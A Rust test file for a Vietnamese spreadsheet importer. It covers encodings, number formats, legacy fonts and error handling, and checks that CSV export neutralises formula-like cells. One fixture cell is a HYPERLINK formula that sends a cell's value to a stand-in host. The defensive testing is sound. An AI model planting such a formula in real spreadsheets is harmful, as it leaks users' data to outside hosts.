//! The small inputs of `../shared/data/hard/` that break naive spreadsheet readers, read as its
//! README says; legacy Vietnamese encodings (TCVN3, VNI); and garbage that must give a clear
//! error, never a panic.
//!
//! Generic tables (provinces, World Bank rows) are checked on the grid level
//! ([`chitieu::io::read_grids`]); files with indicator headers also through
//! [`chitieu::io::load_bytes`].

use chitieu::io::grid::{Cell, Grid};
use chitieu::io::legacy::Legacy;
use chitieu::io::table::UNDATED;
use chitieu::io::{ImportOptions, LoadError, Loaded, RawFile, load_bytes, read_grids};
use chitieu::model::{Indicator, Measure, Period, Sentence, Strategy};
use chitieu::parse::{NumberFormat, parse_measure, parse_number};
use unicode_normalization::is_nfc;

const HARD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/hard/");
const SAMPLES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/");
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/");

fn bytes(folder: &str, name: &str) -> Vec<u8> {
    std::fs::read(format!("{folder}{name}")).unwrap_or_else(|error| panic!("{name}: {error}"))
}

fn raw(name: &str) -> RawFile {
    read_grids(name, &bytes(HARD, name), &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"))
}

fn load(folder: &str, name: &str) -> Loaded {
    load_bytes(name, &bytes(folder, name), &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"))
}

fn only_grid(raw: &RawFile) -> &Grid {
    assert_eq!(raw.grids.len(), 1, "{}: one grid", raw.file);
    &raw.grids[0]
}

fn text(grid: &Grid, row: usize, column: usize) -> &str {
    grid.text_at(row, column)
        .unwrap_or_else(|| panic!("({row}, {column}) is {:?}", grid.cell(row, column)))
}

/// The number a text cell holds, read in `format`.
fn number(grid: &Grid, row: usize, column: usize, format: NumberFormat) -> f64 {
    let cell = text(grid, row, column);
    parse_number(cell, format)
        .unwrap_or_else(|| panic!("({row}, {column}) \"{cell}\" is not a number"))
        .value
}

fn close(actual: f64, expected: f64) -> bool {
    (actual - expected).abs() < 1e-9 * expected.abs().max(1.0)
}

#[track_caller]
fn assert_close(actual: f64, expected: f64) {
    assert!(close(actual, expected), "{actual} != {expected}");
}

/// Every row's length (trailing empty fields count, as the file wrote them).
fn widths(grid: &Grid) -> Vec<usize> {
    grid.rows.iter().map(Vec::len).collect()
}

fn only_strategy(loaded: &Loaded) -> &Strategy {
    assert_eq!(loaded.strategies.len(), 1, "{:?}", loaded.decisions);
    &loaded.strategies[0]
}

fn indicator<'a>(strategy: &'a Strategy, name: &str) -> &'a Indicator {
    strategy
        .indicators
        .iter()
        .find(|indicator| indicator.name == name)
        .unwrap_or_else(|| panic!("no indicator \"{name}\""))
}

/// Target and actual of an indicator for a period, as numbers.
fn values(indicator: &Indicator, period: Period) -> (Option<f64>, Option<Measure>) {
    let value = indicator
        .value(period)
        .unwrap_or_else(|| panic!("{}: no values for {period}", indicator.name));
    (
        value.target.as_ref().map(|target| target.value),
        value.actual.as_ref().map(|actual| actual.measure),
    )
}

#[track_caller]
fn assert_values(indicator: &Indicator, period: Period, target: f64, actual: f64) {
    let (found_target, found_actual) = values(indicator, period);
    assert_close(found_target.expect("a target"), target);
    match found_actual {
        Some(Measure::Number(value)) => assert_close(value, actual),
        other => panic!("{}: actual {other:?}, expected {actual}", indicator.name),
    }
}

fn all_text_is_nfc(grid: &Grid) -> bool {
    grid.rows.iter().flatten().all(|cell| match cell {
        Cell::Text(text) => is_nfc(text) && !text.contains(char::is_control),
        _ => true,
    })
}

fn has_decision(decisions: &[Sentence], part: &str) -> bool {
    decisions.iter().any(|decision| decision.contains(part))
}

// ---------------------------------------------------------------------------------------------
// sep_line_semicolon_vn.csv

#[test]
fn sep_line_is_a_hint_not_a_row() {
    let raw = raw("sep_line_semicolon_vn.csv");
    let layout = raw.text.as_ref().expect("text");
    assert!(layout.sep_line);
    assert_eq!(layout.delimiter, b';');
    assert_eq!(layout.encoding, "UTF-8");
    assert!(has_decision(&raw.decisions, "sep= line"));
    let grid = only_grid(&raw);
    // Header and 4 data rows, 5 columns each; the header is line 2 of the file.
    assert_eq!(widths(grid), vec![5; 5]);
    assert_eq!(grid.row_numbers, vec![2, 3, 4, 5, 6]);
    assert_eq!(text(grid, 0, 0), "Chỉ tiêu");
    assert_eq!(text(grid, 0, 4), "Tỷ lệ");
    assert!(all_text_is_nfc(grid));
}

#[test]
fn sep_line_vietnamese_numbers() {
    let raw = raw("sep_line_semicolon_vn.csv");
    let grid = only_grid(&raw);
    // The cells themselves decide: "101,3" and "2,75" only make sense with a decimal comma.
    assert_eq!(
        grid.format_vote().decided(),
        Some(NumberFormat::DecimalComma)
    );
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalComma);
    assert_close(number(grid, 1, 2, format), 96.245);
    assert_close(number(grid, 1, 3, format), 101.3);
    let percent = parse_number(text(grid, 1, 4), format).expect("105,3%");
    assert_close(percent.value, 105.3);
    assert!(percent.percent);
    assert_close(number(grid, 2, 2, format), 66000.0);
    assert_close(number(grid, 2, 3, format), 59400.0);
    // "12/14" is a ratio (85.7 %), not a date: the cell stays text and reads as a ratio.
    assert_eq!(grid.cell(3, 4), &Cell::Text("12/14".into()));
    assert_eq!(parse_number("12/14", format), None);
    let ratio = parse_measure(text(grid, 3, 4), format).expect("a ratio");
    assert_eq!(
        ratio,
        Measure::Ratio {
            numerator: 12.0,
            denominator: 14.0
        }
    );
    if let Measure::Ratio {
        numerator,
        denominator,
    } = ratio
    {
        assert_eq!(format!("{:.1}", 100.0 * numerator / denominator), "85.7");
    }
    let percent = parse_number(text(grid, 4, 2), format).expect("275%");
    assert!(percent.percent);
    assert_close(percent.value, 275.0);
    assert_close(number(grid, 4, 3, format), 2.75);
    assert_eq!(grid.cell(4, 4), &Cell::Empty);
}

#[test]
fn sep_line_loads_as_an_indicator_table() {
    let loaded = load(HARD, "sep_line_semicolon_vn.csv");
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    assert!(has_decision(&loaded.decisions, "header on row 2"));
    assert!(has_decision(&loaded.decisions, "decimal comma"));
    assert!(has_decision(&loaded.decisions, "undated"));
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 4);
    assert_eq!(strategy.periods(), vec![UNDATED]);
    let capital = indicator(strategy, "Vốn đầu tư");
    assert_values(capital, UNDATED, 96.245, 101.3);
    assert_eq!(capital.unit.text, "tỷ đồng");
    assert_values(
        indicator(strategy, "Lao động được đào tạo"),
        UNDATED,
        66000.0,
        59400.0,
    );
    assert_values(indicator(strategy, "Xã đạt chuẩn"), UNDATED, 14.0, 12.0);
    let growth = indicator(strategy, "Tăng trưởng");
    assert_values(growth, UNDATED, 275.0, 2.75);
    assert_eq!(growth.unit.text, "%");
    let target = growth.value(UNDATED).and_then(|v| v.target.as_ref());
    assert_eq!(target.map(|t| t.text.as_str()), Some("275%"));
}

// ---------------------------------------------------------------------------------------------
// semicolon_decimal_comma.csv

#[test]
fn semicolon_decided_by_the_header_not_by_decimal_commas() {
    let raw = raw("semicolon_decimal_comma.csv");
    let layout = raw.text.as_ref().expect("text");
    assert!(!layout.sep_line);
    assert_eq!(layout.delimiter, b';');
    let grid = only_grid(&raw);
    assert_eq!(widths(grid), vec![4; 4]);
    assert_eq!(text(grid, 1, 0), "Thu nội địa, không kể dầu thô");
    assert_eq!(text(grid, 3, 0), "Bội chi, % GDP");
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalComma);
    assert_close(number(grid, 1, 1, format), 545.5);
    assert_close(number(grid, 1, 2, format), 567.4);
    assert_close(number(grid, 1, 3, format), 104.0);
    assert_close(number(grid, 2, 2, format), 271.7);
    assert_close(number(grid, 3, 1, format), 4.8);
}

#[test]
fn semicolon_decimal_comma_loads_as_an_indicator_table() {
    let loaded = load(HARD, "semicolon_decimal_comma.csv");
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 3);
    assert_eq!(strategy.periods(), vec![2013]);
    assert_values(
        indicator(strategy, "Thu nội địa, không kể dầu thô"),
        2013,
        545.5,
        567.4,
    );
    assert_values(
        indicator(strategy, "Chi đầu tư phát triển"),
        2013,
        175.0,
        271.7,
    );
    assert_values(indicator(strategy, "Bội chi, % GDP"), 2013, 4.8, 6.6);
}

// ---------------------------------------------------------------------------------------------
// windows1258_semicolon.csv

#[test]
fn windows_1258_with_combining_tone_marks_becomes_nfc() {
    let raw = raw("windows1258_semicolon.csv");
    let layout = raw.text.as_ref().expect("text");
    assert_eq!(layout.encoding, "windows-1258");
    assert_eq!(layout.legacy, None);
    assert!(raw.warnings.is_empty(), "{:?}", raw.warnings);
    let grid = only_grid(&raw);
    assert_eq!(widths(grid), vec![4; 4]);
    let header: Vec<&str> = (0..4).map(|column| text(grid, 0, column)).collect();
    assert_eq!(
        header.join(";"),
        "Tỉnh;Kế hoạch (tỷ đồng);Thực hiện (tỷ đồng);Tỷ lệ (%)"
    );
    assert!(all_text_is_nfc(grid));
    // Precomposed letters, no combining marks left.
    assert!(
        !header
            .concat()
            .contains(|c| ('\u{300}'..='\u{36f}').contains(&c))
    );
    assert_eq!(text(grid, 1, 0), "Hà Nội");
    assert_eq!(text(grid, 2, 0), "Đắk Lắk");
    assert_eq!(text(grid, 3, 0), "Thừa Thiên - Huế");
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalComma);
    assert_close(number(grid, 1, 1, format), 82830.0);
    assert_close(number(grid, 1, 2, format), 62316.0);
    assert_close(number(grid, 1, 3, format), 75.2);
    assert_close(number(grid, 3, 2, format), 6741.0);
}

#[test]
fn a_province_table_is_not_an_indicator_table() {
    let name = "windows1258_semicolon.csv";
    let error = load_bytes(name, &bytes(HARD, name), &ImportOptions::default())
        .expect_err("no indicator column");
    assert!(matches!(error, LoadError::NoTable { .. }), "{error}");
    assert!(error.to_string().starts_with(name), "{error}");
}

// ---------------------------------------------------------------------------------------------
// utf16le_bom_tab.txt

#[test]
fn utf16_le_with_bom_and_tabs() {
    let raw = raw("utf16le_bom_tab.txt");
    let layout = raw.text.as_ref().expect("text");
    assert_eq!(layout.encoding, "UTF-16LE");
    assert!(layout.bom);
    assert_eq!(layout.delimiter, b'\t');
    let grid = only_grid(&raw);
    assert_eq!(widths(grid), vec![5; 4]);
    assert!(all_text_is_nfc(grid), "no stray carriage returns");
    assert_eq!(text(grid, 0, 0), "Chỉ tiêu");
    assert_eq!(text(grid, 0, 3), "Cộng dồn 11 tháng năm 2024");
    assert_eq!(text(grid, 2, 0), "Hà Nội");
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalComma);
    assert_close(number(grid, 2, 3, format), 62316.0);
    assert_close(number(grid, 2, 4, format), 75.2);
    assert_eq!(text(grid, 3, 0), "TP. Hồ Chí Minh");
    assert_close(number(grid, 3, 4, format), 51.2);
}

#[test]
fn monthly_columns_are_not_yearly_targets_or_results() {
    // "Thực hiện tháng 10 năm 2024" is October's figure, not the year's: the file has no
    // yearly target or actual column, so it is no indicator table.
    let name = "utf16le_bom_tab.txt";
    let error = load_bytes(name, &bytes(HARD, name), &ImportOptions::default())
        .expect_err("monthly columns");
    assert!(matches!(error, LoadError::NoTable { .. }), "{error}");
    assert!(error.to_string().starts_with(name), "{error}");
    assert!(
        error
            .to_string()
            .contains("(\"Thực hiện tháng 10 năm 2024\") is not read as a yearly"),
        "{error}"
    );
}

// ---------------------------------------------------------------------------------------------
// nfc_nfd_mixed.csv

#[test]
fn composed_and_decomposed_names_become_one() {
    let raw = raw("nfc_nfd_mixed.csv");
    let grid = only_grid(&raw);
    assert_eq!(widths(grid), vec![3; 5]);
    assert!(all_text_is_nfc(grid));
    let mut places: Vec<(&str, &str)> = (1..5)
        .map(|row| (text(grid, row, 0), text(grid, row, 1)))
        .collect();
    places.sort_unstable();
    assert_eq!(
        places,
        vec![
            ("Hà Tĩnh", "2024-10"),
            ("Hà Tĩnh", "2024-11"),
            ("Khánh Hòa", "2024-10"),
            ("Khánh Hòa", "2024-11"),
        ]
    );
    // Precomposed letters, as fonts draw them: "ĩ" is U+0129, "ò" U+00F2.
    assert!(text(grid, 2, 0).contains('\u{129}'));
    assert!(text(grid, 4, 0).contains('\u{f2}'));
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalPoint);
    assert_close(number(grid, 1, 2, format), 512.4);
    assert_close(number(grid, 4, 2, format), 598.2);
}

// ---------------------------------------------------------------------------------------------
// wdi_like_preamble.csv

#[test]
fn world_bank_preamble_and_trailing_commas() {
    let raw = raw("wdi_like_preamble.csv");
    let layout = raw.text.as_ref().expect("text");
    assert!(layout.bom);
    assert_eq!(layout.delimiter, b',');
    let grid = only_grid(&raw);
    // Blank lines are not rows; the header is line 5, the one data row line 6.
    assert_eq!(grid.row_numbers, vec![1, 3, 5, 6]);
    assert_eq!(text(grid, 0, 0), "Data Source");
    assert_eq!(text(grid, 2, 0), "Country Name");
    assert_eq!(text(grid, 2, 4), "2016");
    assert_eq!(text(grid, 2, 5), "2017");
    assert_eq!(grid.cell(2, 6), &Cell::Empty, "trailing comma");
    assert_eq!(text(grid, 3, 0), "Vietnam");
    assert_eq!(text(grid, 3, 2), "Population, total");
    let format = raw.number_format(0, &ImportOptions::default());
    assert_eq!(format, NumberFormat::DecimalPoint);
    assert_close(number(grid, 3, 4, format), 92_701_100.0);
    assert_eq!(grid.cell(3, 5), &Cell::Empty, "2017 has no data");
}

#[test]
fn world_bank_row_loads_with_no_data_for_2017() {
    let loaded = load(HARD, "wdi_like_preamble.csv");
    assert!(has_decision(&loaded.decisions, "header on row 5"));
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 1);
    let population = &strategy.indicators[0];
    assert_eq!(population.code, "SP.POP.TOTL");
    assert_eq!(population.name, "Population, total");
    assert_eq!(
        values(population, 2016),
        (None, Some(Measure::Number(92_701_100.0)))
    );
    // No data, not 0.
    assert!(population.value(2017).is_none());
}

// ---------------------------------------------------------------------------------------------
// xlsx_far_cell_xfd1048576.xlsx and ods_leading_empty_rows_repeated.ods

/// A 2×2 table "Chỉ tiêu" | "Thực hiện" over "Hà Nội" | 62315.877, at `first_row`.
fn assert_two_by_two(grid: &Grid, first_row: u32) {
    assert_eq!(grid.row_numbers, vec![first_row, first_row + 1]);
    assert_eq!(grid.first_column, 1);
    assert_eq!(widths(grid), vec![2, 2]);
    assert_eq!(text(grid, 0, 0), "Chỉ tiêu");
    assert_eq!(text(grid, 0, 1), "Thực hiện");
    assert_eq!(text(grid, 1, 0), "Hà Nội");
    assert_eq!(
        grid.cell(1, 1),
        &Cell::Number {
            value: 62315.877,
            percent: false
        }
    );
}

#[test]
fn far_declared_corner_is_not_allocated() {
    // The sheet declares A1:XFD1048576 and has an empty string at XFD1048576; a reader that
    // allocates the declared (or spanned) range asks for half a terabyte.
    let raw = raw("xlsx_far_cell_xfd1048576.xlsx");
    assert!(raw.text.is_none());
    let grid = only_grid(&raw);
    assert_eq!(grid.sheet.as_deref(), Some("Sheet1"));
    assert_two_by_two(grid, 1);
    let loaded = load(HARD, "xlsx_far_cell_xfd1048576.xlsx");
    let strategy = only_strategy(&loaded);
    assert_eq!(
        values(indicator(strategy, "Hà Nội"), UNDATED),
        (None, Some(Measure::Number(62315.877)))
    );
}

#[test]
fn ods_repeated_empty_rows_are_skipped() {
    // Two repeated empty rows above the header and 1048572 below the data.
    let raw = raw("ods_leading_empty_rows_repeated.ods");
    let grid = only_grid(&raw);
    assert_two_by_two(grid, 3);
    let loaded = load(HARD, "ods_leading_empty_rows_repeated.ods");
    assert!(has_decision(&loaded.decisions, "header on row 3"));
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 1);
    assert_eq!(
        values(indicator(strategy, "Hà Nội"), UNDATED),
        (None, Some(Measure::Number(62315.877)))
    );
}

// ---------------------------------------------------------------------------------------------
// export_injection_candidates.csv

/// The file's fields exactly as written (the csv crate, no trimming).
fn raw_fields(name: &str) -> Vec<Vec<String>> {
    let file = bytes(HARD, name);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(file.as_slice())
        .records()
        .map(|record| {
            record
                .expect("valid CSV")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

#[test]
fn formula_like_cells_load_as_text() {
    let raw = raw("export_injection_candidates.csv");
    let grid = only_grid(&raw);
    assert_eq!(widths(grid), vec![3; 7]);
    assert_eq!(
        text(grid, 1, 0),
        "=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"xem\")"
    );
    assert_eq!(text(grid, 2, 0), "+84 912 000 000");
    assert_eq!(text(grid, 3, 0), "@SUM(C2:C3)");
    assert_eq!(text(grid, 4, 2), "-5");
    assert_eq!(text(grid, 5, 2), "-");
    // Leading white space (here a tab) is trimmed like any other.
    assert_eq!(text(grid, 6, 0), "Tab đầu ô");
    let loaded = load(HARD, "export_injection_candidates.csv");
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 6);
    assert_eq!(
        strategy.indicators[0].name,
        "=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"xem\")"
    );
    let change = indicator(strategy, "Chênh lệch");
    assert_eq!(values(change, UNDATED), (None, Some(Measure::Number(-5.0))));
    // A lone "-" is no number: kept as text, with a warning.
    let missing = indicator(strategy, "Chưa có số liệu");
    let value = missing.value(UNDATED).expect("a value row");
    assert!(value.actual.is_none());
    assert_eq!(value.unread_actual(), Some("-"));
    assert_eq!(loaded.warnings.len(), 1, "{:?}", loaded.warnings);
}

#[test]
fn csv_export_neutralises_each_formula_like_cell() {
    use chitieu::report::neutralise_formula;
    let fields = raw_fields("export_injection_candidates.csv");
    let expected: Vec<Vec<&str>> = vec![
        vec!["Chỉ tiêu", "Ghi chú", "Giá trị"],
        vec![
            "'=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"xem\")",
            "Ghi chú 1",
            "1",
        ],
        vec!["'+84 912 000 000", "số điện thoại giả định", "2"],
        vec!["'@SUM(C2:C3)", "ô bắt đầu bằng @", "3"],
        vec!["Chênh lệch", "số âm phải giữ nguyên", "-5"],
        vec!["Chưa có số liệu", "dấu gạch ngang là ô trống", "-"],
        vec!["'\tTab đầu ô", "bắt đầu bằng tab", "6"],
    ];
    let neutralised: Vec<Vec<String>> = fields
        .iter()
        .map(|row| row.iter().map(|field| neutralise_formula(field)).collect())
        .collect();
    assert_eq!(neutralised, expected);
    // The reader's test for formula-like text agrees with the export's.
    for field in fields.iter().flatten() {
        assert_eq!(
            chitieu::text::starts_like_formula(field),
            neutralise_formula(field) != *field,
            "{field:?}"
        );
    }
    assert_eq!(neutralise_formula("\rCR"), "'\rCR");
    assert_eq!(neutralise_formula("-x"), "'-x");
}

#[test]
fn neutralised_csv_reads_back_the_same() {
    use chitieu::report::neutralise_formula;
    let name = "export_injection_candidates.csv";
    let first = raw(name);
    let grid = only_grid(&first);
    // Export as the CSV writers do: every cell through neutralise_formula.
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in &grid.rows {
        writer
            .write_record(row.iter().map(|cell| neutralise_formula(&cell.as_text())))
            .expect("write");
    }
    let exported = writer.into_inner().expect("flush");
    let exported_text = String::from_utf8(exported.clone()).expect("UTF-8");
    assert!(exported_text.contains("\"'=HYPERLINK("), "{exported_text}");
    assert!(exported_text.contains("'@SUM(C2:C3)"), "{exported_text}");
    let again = read_grids("exported.csv", &exported, &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(only_grid(&again).rows, grid.rows);
    // And the raw fields, tab included, survive a round trip through export and import.
    let fields = raw_fields(name);
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in &fields {
        writer
            .write_record(row.iter().map(|field| neutralise_formula(field)))
            .expect("write");
    }
    let exported = writer.into_inner().expect("flush");
    let again = read_grids("exported.csv", &exported, &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(only_grid(&again).rows, grid.rows);
}

// ---------------------------------------------------------------------------------------------
// Legacy Vietnamese encodings (fixtures written by tests/fixtures/make_legacy.py)

fn assert_legacy_indicators(name: &str, legacy: Legacy) {
    let file = bytes(FIXTURES, name);
    let raw = read_grids(name, &file, &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"));
    let layout = raw.text.as_ref().expect("text");
    assert_eq!(layout.legacy, Some(legacy));
    assert_eq!(layout.encoding, legacy.name());
    assert!(has_decision(&raw.decisions, "converted from the legacy"));
    assert_eq!(raw.warnings.len(), 1);
    assert!(
        raw.warnings[0].message.contains(legacy.name()),
        "{}",
        raw.warnings[0].message
    );
    let grid = only_grid(&raw);
    assert!(all_text_is_nfc(grid));
    let header: Vec<&str> = (0..6).map(|column| text(grid, 1, column)).collect();
    assert_eq!(
        header,
        [
            "STT",
            "Chỉ tiêu",
            "Đơn vị tính",
            "Kế hoạch 2020",
            "Thực hiện 2020",
            "Ghi chú"
        ]
    );
    assert_eq!(text(grid, 2, 5), "số liệu minh họa");
    assert_eq!(text(grid, 4, 3), "dưới 3");

    let loaded = load(FIXTURES, name);
    assert!(
        loaded
            .warnings
            .iter()
            .any(|w| w.message.contains(legacy.name()))
    );
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 3);
    let insured = indicator(
        strategy,
        "Tỷ lệ trẻ em dưới 6 tuổi được cấp thẻ bảo hiểm y tế",
    );
    assert_eq!(insured.unit.text, "%");
    assert_values(insured, 2020, 100.0, 98.5);
    let communes = indicator(strategy, "Số xã đạt chuẩn nông thôn mới");
    assert_eq!(communes.unit.text, "xã");
    assert_values(communes, 2020, 30.0, 28.0);
    assert_values(indicator(strategy, "Tỷ lệ hộ nghèo"), 2020, 3.0, 2.75);
}

#[test]
fn tcvn3_is_detected_and_converted() {
    assert_legacy_indicators("tcvn3_indicators.csv", Legacy::Tcvn3);
    let raw = read_grids(
        "tcvn3_indicators.csv",
        &bytes(FIXTURES, "tcvn3_indicators.csv"),
        &ImportOptions::default(),
    )
    .expect("reads");
    assert_eq!(
        text(only_grid(&raw), 0, 0),
        "Biểu tổng hợp kết quả thực hiện các chỉ tiêu năm 2020"
    );
}

#[test]
fn vni_is_detected_and_converted() {
    assert_legacy_indicators("vni_indicators.csv", Legacy::Vni);
    let raw = read_grids(
        "vni_indicators.csv",
        &bytes(FIXTURES, "vni_indicators.csv"),
        &ImportOptions::default(),
    )
    .expect("reads");
    // VNI has capitals with tone marks.
    assert_eq!(
        text(only_grid(&raw), 0, 0),
        "ỦY BAN NHÂN DÂN TỈNH THỪA THIÊN HUẾ"
    );
}

#[test]
fn a_workbook_typed_with_a_tcvn3_font_is_converted() {
    // Excel stores what a .VnTime font shows as "Chỉ tiêu" as the letters "ChØ tiªu".
    let name = "tcvn3_sheet.xlsx";
    let raw = read_grids(name, &bytes(FIXTURES, name), &ImportOptions::default())
        .unwrap_or_else(|error| panic!("{error}"));
    assert!(has_decision(
        &raw.decisions,
        "sheet \"Bieu 1\": text converted"
    ));
    assert_eq!(raw.warnings.len(), 1);
    assert_eq!(raw.warnings[0].at.sheet(), Some("Bieu 1"));
    let grid = only_grid(&raw);
    assert!(all_text_is_nfc(grid));
    assert_eq!(text(grid, 1, 1), "Chỉ tiêu");
    assert_eq!(text(grid, 1, 2), "Đơn vị tính");
    let loaded = load(FIXTURES, name);
    let strategy = only_strategy(&loaded);
    assert_eq!(strategy.indicators.len(), 3);
    assert_values(
        indicator(strategy, "Số xã đạt chuẩn nông thôn mới"),
        2020,
        30.0,
        28.0,
    );
    assert_values(indicator(strategy, "Tỷ lệ hộ nghèo"), 2020, 3.0, 2.75);
    // The Unicode samples are left alone.
    let sample = read_grids(
        "bvcste-2016-2020.xlsx",
        &bytes(SAMPLES, "bvcste-2016-2020.xlsx"),
        &ImportOptions::default(),
    )
    .expect("reads");
    assert!(sample.warnings.is_empty());
}

#[test]
fn the_user_can_name_a_legacy_encoding_or_refuse_one() {
    let name = "tcvn3_indicators.csv";
    let file = bytes(FIXTURES, name);
    let forced = ImportOptions {
        encoding: Some("TCVN3".into()),
        ..ImportOptions::default()
    };
    let raw = read_grids(name, &file, &forced).expect("reads");
    assert_eq!(
        raw.text.as_ref().and_then(|t| t.legacy),
        Some(Legacy::Tcvn3)
    );
    // Read as Windows-1258 on request: no conversion, the mojibake the user asked for.
    let plain = ImportOptions {
        encoding: Some("windows-1258".into()),
        ..ImportOptions::default()
    };
    let raw = read_grids(name, &file, &plain).expect("reads");
    assert_eq!(raw.text.as_ref().and_then(|t| t.legacy), None);
    assert_ne!(text(only_grid(&raw), 1, 1), "Chỉ tiêu");
    let unknown = ImportOptions {
        encoding: Some("klingon".into()),
        ..ImportOptions::default()
    };
    let error = read_grids(name, &file, &unknown).expect_err("unknown label");
    assert!(matches!(error, LoadError::Encoding { .. }));
    assert!(error.to_string().contains("tcvn3"), "{error}");
}

#[test]
fn utf8_and_windows_1258_files_are_not_taken_for_legacy_ones() {
    for name in [
        "sep_line_semicolon_vn.csv",
        "semicolon_decimal_comma.csv",
        "windows1258_semicolon.csv",
        "utf16le_bom_tab.txt",
        "nfc_nfd_mixed.csv",
        "export_injection_candidates.csv",
    ] {
        let raw = raw(name);
        assert_eq!(raw.text.and_then(|text| text.legacy), None, "{name}");
    }
}

// ---------------------------------------------------------------------------------------------
// Garbage: a clear error that names the file, never a panic

#[track_caller]
fn assert_fails_clearly(name: &str, bytes: &[u8]) -> LoadError {
    let error = load_bytes(name, bytes, &ImportOptions::default())
        .err()
        .unwrap_or_else(|| panic!("{name} loaded"));
    let message = error.to_string();
    assert!(message.starts_with(name), "{message}");
    assert!(message.len() > name.len() + 10, "{message}");
    error
}

#[test]
fn empty_files() {
    for content in [&b""[..], b"   \r\n\t\n"] {
        let error = assert_fails_clearly("empty.csv", content);
        assert!(matches!(error, LoadError::Empty { .. }), "{error}");
        let error = read_grids("empty.csv", content, &ImportOptions::default()).expect_err("empty");
        assert!(matches!(error, LoadError::Empty { .. }));
    }
}

#[test]
fn binary_noise() {
    // A deterministic pseudo-random byte stream (xorshift), with and without a zip's magic.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let noise: Vec<u8> = (0..64 * 1024)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()[0]
        })
        .collect();
    assert_fails_clearly("noise.bin", &noise);
    let mut fake_zip = b"PK\x03\x04".to_vec();
    fake_zip.extend_from_slice(&noise[..4096]);
    let error = assert_fails_clearly("noise.xlsx", &fake_zip);
    assert!(matches!(error, LoadError::Workbook { .. }), "{error}");
    let mut fake_xls = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    fake_xls.extend_from_slice(&noise[..4096]);
    let error = assert_fails_clearly("noise.xls", &fake_xls);
    assert!(matches!(error, LoadError::Workbook { .. }), "{error}");
    for length in [1, 2, 3, 7, 100, 1000] {
        let _ = load_bytes("noise.bin", &noise[..length], &ImportOptions::default());
    }
}

#[test]
fn truncated_xlsx() {
    let sample = bytes(SAMPLES, "bvcste-2016-2020.xlsx");
    let error = assert_fails_clearly("truncated.xlsx", &sample[..sample.len() / 2]);
    assert!(matches!(error, LoadError::Workbook { .. }), "{error}");
    let error = read_grids(
        "truncated.xlsx",
        &sample[..sample.len() / 2],
        &ImportOptions::default(),
    )
    .expect_err("truncated");
    assert!(
        error
            .to_string()
            .starts_with("truncated.xlsx: not a readable workbook")
    );
}

#[test]
fn zip_that_is_not_a_workbook() {
    let error = assert_fails_clearly("not_a_workbook.zip", &bytes(FIXTURES, "not_a_workbook.zip"));
    assert!(matches!(error, LoadError::Workbook { .. }), "{error}");
}

#[test]
fn header_only_csv() {
    let error = assert_fails_clearly(
        "header-only.csv",
        "Chỉ tiêu;Kế hoạch 2020;Thực hiện 2020\r\n".as_bytes(),
    );
    assert!(matches!(error, LoadError::NoIndicators { .. }), "{error}");
    assert!(error.to_string().contains("row 1"), "{error}");
    // On the grid level it is a one-row table.
    let raw = read_grids(
        "header-only.csv",
        "Chỉ tiêu;Kế hoạch 2020;Thực hiện 2020\r\n".as_bytes(),
        &ImportOptions::default(),
    )
    .expect("reads");
    assert_eq!(widths(only_grid(&raw)), vec![3]);
}
